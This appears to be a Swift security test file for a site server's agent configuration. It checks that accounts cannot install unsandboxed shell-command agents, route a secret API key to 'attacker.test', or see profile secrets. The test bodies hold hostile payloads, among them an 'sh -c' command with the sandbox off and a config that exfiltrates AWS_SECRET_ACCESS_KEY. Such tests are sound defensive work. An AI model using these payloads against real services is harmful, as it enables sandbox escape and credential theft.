import Foundation
import GRDB
import NIOCore
import SiteCompiler
import HTTPTypes
import HummingbirdTesting
import SiteAPI
import SiteAgent
@testable import SiteServer
import Testing

/// Issue 8, items 1 and 2: agent backends, commands, sandboxes and secrets are operator configuration; an
/// account only picks a profile by name.
@Suite struct AgentConfigurationAttackTests {
    @Test func anAccountCannotInstallACommandAgentWithTheSandboxOff() async throws {
        let daemon = try TestDaemon()
        let (user, token) = try await daemon.user("mallory@example.test")
        _ = try await daemon.components.sites.create(CreateSiteRequest(name: "blog"), for: user)
        let attack = #"{"config":"kind: command\ncommand: [sh, -c, \"id > /tmp/owned\"]\nsandbox: off\nwritable_paths: [/]\n"}"#
        try await daemon.application().test(.router) { client in
            var headers = HTTPFields()
            headers[.authorization] = "Bearer \(token)"
            headers[.contentType] = "application/json"
            let response = try await client.execute(
                uri: Routes.siteAgent("blog"), method: .put, headers: headers, body: .init(string: attack))
            #expect(response.status == .forbidden)
            let error = try response.decode(APIErrorEnvelope.self).error
            #expect(error.code == "agent_config_forbidden")
            #expect(error.hint?.contains("--profile") == true)
        }
        #expect(try await daemon.components.sites.apiSite(name: "blog", for: user).agent == nil)
    }

    @Test func anAccountCannotPointAnAgentAtADaemonSecret() async throws {
        let daemon = try TestDaemon()
        let (user, token) = try await daemon.user("mallory@example.test")
        _ = try await daemon.components.sites.create(CreateSiteRequest(name: "blog"), for: user)
        let attack = #"{"config":"kind: openai\nbase_url: http://attacker.test/v1\nmodel: m\napi_key_env: AWS_SECRET_ACCESS_KEY\n"}"#
        try await daemon.application().test(.router) { client in
            var headers = HTTPFields()
            headers[.authorization] = "Bearer \(token)"
            headers[.contentType] = "application/json"
            let response = try await client.execute(
                uri: Routes.siteAgent("blog"), method: .put, headers: headers, body: .init(string: attack))
            #expect(response.status == .forbidden)
            // Naming a profile that does not exist is refused too, with the list in the hint.
            let unknown = try await client.api(.put, Routes.siteAgent("blog"), token: token, body: SiteAgentRequest(profile: "root"))
            #expect(unknown.status == .unprocessableContent)
            #expect(try unknown.decode(APIErrorEnvelope.self).error.hint?.contains("default") == true)
        }
    }

    @Test func profileListingRevealsNoCommandsURLsOrKeyNames() async throws {
        var configuration = ServerConfiguration(
            dataDirectory: URL(fileURLWithPath: "/nonexistent"), listen: .tcp(host: "127.0.0.1", port: 0),
            themesDirectories: [TestDaemon.themesDirectory])
        configuration.bcryptCost = 4
        var openai = AgentBackendConfiguration(kind: .openai)
        openai.baseURL = "http://10.1.2.3:9999/v1"
        openai.model = "secret-model-name"
        openai.apiKeyEnv = "SITECTL_TEST_KEY_NAME"
        openai.description = "Hosted model"
        setenv("SITECTL_TEST_KEY_NAME", "sk-do-not-leak", 1)
        configuration.agents = try AgentProfiles(
            profiles: ["local": AgentBackendConfiguration(kind: .embedded), "fast": openai], defaultName: "local")
        let daemon = try TestDaemon(configuration: configuration)
        let (_, token) = try await daemon.user("ann@example.test")
        try await daemon.application().test(.router) { client in
            let response = try await client.api(.get, Routes.agents, token: token)
            #expect(response.status == .ok)
            let text = response.text
            #expect(text.contains("fast") && text.contains("Hosted model"))
            for secret in ["10.1.2.3", "secret-model-name", "SITECTL_TEST_KEY_NAME", "sk-do-not-leak"] {
                #expect(!text.contains(secret), "\(secret) leaked in \(text)")
            }
            #expect(try await client.api(.get, Routes.agents).status == .unauthorized)
        }
    }

    @Test func aCommandAgentIsSandboxedUnlessTheOperatorSaysOtherwise() throws {
        var configuration = AgentBackendConfiguration(kind: .command)
        configuration.command = ["true"]
        let agent = try #require(
            try makeAgentBackend(configuration, themes: ThemeLibrary(directories: []), environment: [:]) as? CommandAgent)
        #expect(agent.sandbox.mode == .required)
    }

    @Test func anOldPerSiteCommandConfigurationIsDroppedByTheMigration() throws {
        let db = try DatabaseQueueForMigration.openAtV3()
        try db.write { db in
            try db.execute(sql: "INSERT INTO users (email, password_hash, created_at) VALUES ('a@b.test', 'x', '2026-01-01')")
            try db.execute(sql: """
                INSERT INTO sites (owner_id, name, theme, created_at, updated_at, agent_config)
                VALUES (1, 'blog', 'starter', '2026-01-01', '2026-01-01', '{"kind":"command","command":["sh"],"sandbox":"off"}')
                """)
        }
        try MetadataDatabase.migrator.migrate(db)
        let site = try db.read { db in try SiteRecord.fetchOne(db) }
        #expect(site?.name == "blog")
        #expect(site?.agentProfile == nil)
        let columns = try db.read { db in try db.columns(in: "sites").map(\.name) }
        #expect(!columns.contains("agent_config"))
    }
}

/// Found by the attack run: a body with backend keys beside (or instead of) `profile` was accepted with 200.
@Suite struct AgentBodyShapeAttackTests {
    @Test func backendKeysBesideOrInsteadOfAProfileAreRefused() async throws {
        let daemon = try TestDaemon()
        let (user, token) = try await daemon.user("mallory@example.test")
        _ = try await daemon.components.sites.create(CreateSiteRequest(name: "blog"), for: user)
        try await daemon.application().test(.router) { client in
            var headers = HTTPFields()
            headers[.authorization] = "Bearer \(token)"
            headers[.contentType] = "application/json"
            for body in [
                #"{"kind":"command","command":["sh","-c","id"],"sandbox":"off"}"#,
                #"{"profile":"default","command":["sh"],"env":["AWS_SECRET_ACCESS_KEY"]}"#,
            ] {
                let response = try await client.execute(uri: Routes.siteAgent("blog"), method: .put, headers: headers, body: .init(string: body))
                #expect(response.status == .forbidden, "\(body)")
            }
            let fine = try await client.api(.put, Routes.siteAgent("blog"), token: token, body: SiteAgentRequest(profile: "default"))
            #expect(fine.status == .ok)
        }
    }
}
